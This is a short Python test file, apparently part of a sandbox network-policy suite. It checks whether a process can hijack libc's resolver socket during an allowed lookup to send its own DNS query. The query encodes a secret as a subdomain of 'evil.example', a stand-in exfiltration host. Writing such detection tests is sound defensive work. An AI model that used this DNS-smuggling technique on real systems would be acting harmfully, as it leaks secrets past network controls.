# class: network
# rule: outbound_connectivity
# policy: lookups.yaml
# success: during a lookup of an allowed name, another thread asks a question of its own by libc's
#   socket
# proof: query
# needs: resolver
# quiet: no other thread has an fd for what libc opens in a lookup
# alerts: true
# timeout: 40
import os

from attack import SECRET, attempt, beside_lookups, is_asking, question


@attempt
def ask():
    asked = question(SECRET + ".evil.example")
    return beside_lookups(is_asking, lambda fd: os.write(fd, asked) == len(asked), stays=True)
